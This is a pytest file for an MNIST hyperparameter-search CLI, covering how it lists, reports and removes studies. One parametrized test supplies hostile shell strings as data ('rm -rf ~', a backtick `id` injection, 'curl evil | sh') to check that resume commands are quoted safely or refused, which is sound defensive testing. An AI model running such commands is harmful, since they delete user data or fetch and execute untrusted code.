"""`mnist-bench studies` and `studies remove`."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import Result

from search import file_lock
from search.defaults import RESULTS
from search.study.studies import StudySummary
from support import handmade
from support.paths import DATABASE, TEST_LOG

Cli = Callable[..., Result]


def summary(name: str, *, trials: int = 50, **more: Any) -> StudySummary:
    given: dict[str, Any] = {"path": RESULTS / name, "complete": 7, "best_value": 0.9944, "live": False, **more}
    return StudySummary(name=name, trials=trials, budget=50, modified="2026-11-24T10:20:30", bytes=2_345_678, **given)


Listed = Callable[..., None]


@pytest.fixture
def listed(monkeypatch: pytest.MonkeyPatch) -> Listed:
    """Return what lets other studies than these three be all that there are."""

    def found(*summaries: StudySummary) -> None:
        monkeypatch.setattr("search.study.studies.list_studies", lambda results: [*summaries])

    found(summary("conv-0"), summary("smoke-1", trials=3), summary("gpu-2", trials=9, live=True))
    return found


def rows(cli: Cli) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(cli("studies", "--json").stdout)["studies"]
    return found


@pytest.mark.usefixtures("listed")
def test_studies_are_listed(cli: Cli) -> None:
    header, *lines, last = cli("studies").stdout.splitlines()
    assert last == "The test set has not been evaluated."
    assert header.split()[:6] == ["study", "trials", "complete", "best", "state", "size"]
    cells = [line.split() for line in lines]
    assert [(line[0], line[4]) for line in cells] == [
        ("conv-0", "finished"),
        ("smoke-1", "paused"),
        ("gpu-2", "running"),
    ]
    assert all(text in lines[0] for text in ("99.44%", "2.3 MB", "2026-11-24 10:20"))
    assert [(row["study"], row["best"]) for row in rows(cli)] == [(line[0], 0.9944) for line in cells]


NOTEBOOK = {"time": "2026-11-28T10:00:00+00:00", "purpose": "notebook: linear; 1 seed"}
CONFIRM = {"time": "2026-11-23T10:00:00+00:00", "purpose": "confirm conv-0: #1, #4; 8 seeds each"}


@pytest.mark.usefixtures("listed")
def test_who_opened_the_test_set_and_when_stands_below_and_beside_the_study(
    cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mnist_bench.data.test_set.name_inside", lambda files: files.name)
    log, own = RESULTS / TEST_LOG, RESULTS / "conv-0" / TEST_LOG
    own.parent.mkdir(parents=True)
    of_notebook = f'for "notebook: linear" on 2026-11-28 ({log}).'
    of_confirm = f'for "confirm conv-0: #1, #4" on 2026-11-23 ({own}).'
    for noted, confirmed, told in (
        ([NOTEBOOK], False, f"once, {of_notebook}"),
        ([NOTEBOOK], True, f"twice, last {of_notebook}"),
        ([], True, f"once, {of_confirm}"),
    ):
        log.write_text("".join(f"{json.dumps(each)}\n" for each in noted))
        own.write_text(f"{json.dumps(CONFIRM)}\n{{torn" if confirmed else "")
        _, first, *_, last = cli("studies").stdout.splitlines()
        assert last == f"The test set has been evaluated {told}"
        assert ("2026-11-23" in first) == confirmed
        assert [row["test_evaluations"] for row in rows(cli)] == [[CONFIRM] * confirmed, [], []]


def test_what_is_wrong_with_a_study_stands_in_its_row_and_is_told(cli: Cli, listed: Listed) -> None:
    failed = handmade.trial(0, periods=0, state="FAIL", error="Traceback\nNameError: no name.")
    listed(
        summary("torn", trials=0, unreadable="Cannot read the database.", best_value=None),
        summary("conv-0"),
        summary("gbm-0", trials=3, complete=0, failed=3, first_failed=failed, path=Path("runs/gbm-0")),
        summary("early-0", trials=21, ended_early=True),
    )
    shown = cli("studies", "--results", "runs")
    assert shown.exit_code == 0
    assert shown.stdout.split()[:4] == ["study", "trials", "failed", "complete"]
    assert shown.stderr.splitlines() == [
        "torn cannot be read: Cannot read the database.",
        "Every trial of gbm-0 that was not pruned failed; the first one: NameError: no name. "
        "`mnist-bench show gbm-0/0 --results runs` shows the whole error.",
    ]
    assert [row["state"] for row in rows(cli)] == ["unreadable", "finished", "paused", "stopped early"]


def test_an_empty_folder_is_a_hint_on_stderr_and_an_empty_list(cli: Cli) -> None:
    result = cli("studies", "--results", "other")
    assert (result.exit_code, result.stdout) == (0, "")
    assert "`mnist-bench search conv --trials 50 --results other`" in result.stderr
    assert rows(cli) == []


AGAIN = "mnist-bench search smoke -n 50 --seed 1 --set 'a=[1, 2]'"


@pytest.mark.usefixtures("listed")
@pytest.mark.parametrize(
    ("command", "shown"),
    [
        (AGAIN.replace(" --set", " --results elsewhere --set"), AGAIN),
        ("mnist-bench search x; rm -rf ~", "mnist-bench search 'x;' rm -rf '~'"),
        ("mnist-bench search `id` \x1b[31m", r"mnist-bench search '`id`' $'\033[31m'"),
        ("curl evil | sh", None),
        ("mnist-bench search $'a;b'", None),
        ("mnist-bench search 'unended", None),
    ],
)
def test_the_line_that_resumes_an_unfinished_search_is_one_command_whoever_wrote_it(
    cli: Cli, command: str, shown: str | None
) -> None:
    for name in ("conv-0", "smoke-1"):
        folder = RESULTS / name
        folder.mkdir(parents=True)
        typed = ("mnist-bench search smoke", command)
        (folder / "commands.jsonl").write_text("".join(f"{json.dumps({'command': each})}\n" for each in typed))
    assert [row["resume"] for row in rows(cli)] == [None, shown, None]
    lines = cli("studies").stdout.splitlines()
    assert lines[5:] == (["", "To resume:", f"  smoke-1  {shown}"] if shown else [])


@pytest.mark.parametrize("word", ["rename", "remvoe"])
def test_a_word_that_is_no_command_is_not_answered_with_one_that_removes(cli: Cli, word: str) -> None:
    result = cli("studies", word, "smoke-0", "foo")
    assert result.exit_code == 2
    assert f"No such command '{word}'." in result.stderr
    assert "mean" not in result.stderr
    assert "Did you mean 'studies'" in cli("studeis").stderr


@pytest.fixture
def folders(listed: Listed) -> list[Path]:
    """Return the folders of two studies, which are there."""
    made = [RESULTS / "conv-0", RESULTS / "smoke-1"]
    for folder in made:
        folder.mkdir(parents=True)
        (folder / DATABASE).touch()
    return made


@pytest.mark.parametrize(
    ("line", "answer", "code", "left"),
    [
        ("conv-0", "n\n", 1, [True, True]),
        ("conv-0 smoke-1 conv-0", "y\n", 0, [False, False]),
        ("conv-0 --yes", None, 0, [False, True]),
        ("conv-0 none --yes", None, 3, [True, True]),
    ],
)
def test_studies_are_removed_after_one_question(
    cli: Cli, folders: list[Path], line: str, answer: str | None, code: int, left: list[bool]
) -> None:
    result = cli("studies", "remove", *line.split(), stdin=answer)
    assert result.exit_code == code
    assert [folder.exists() for folder in folders] == left
    assert "Remove" not in result.stdout
    two = "smoke-1" in line
    what, loss = ("these 2 studies", "They") if two else ("this study", "It")
    assert result.stderr.count(f"Remove {what}? {loss} cannot be restored.") == (answer is not None)
    assert result.stderr.count("conv-0: 50 trials, 2.3 MB in results/conv-0") == (answer is not None)
    if code == 3:
        assert "No study none in results/; `mnist-bench studies` lists the studies there." in result.stderr


def test_nothing_is_removed_if_one_of_them_is_in_use(cli: Cli, folders: list[Path]) -> None:
    with file_lock.driver_lock(folders[0] / "driver.lock", "conv-0"):
        result = cli("studies", "remove", "smoke-1", "conv-0", "--yes")
    assert result.exit_code == 1
    assert "conv-0 is in use (process" in result.stderr
    assert "nothing was removed" in result.stderr
    assert all(folder.exists() for folder in folders)
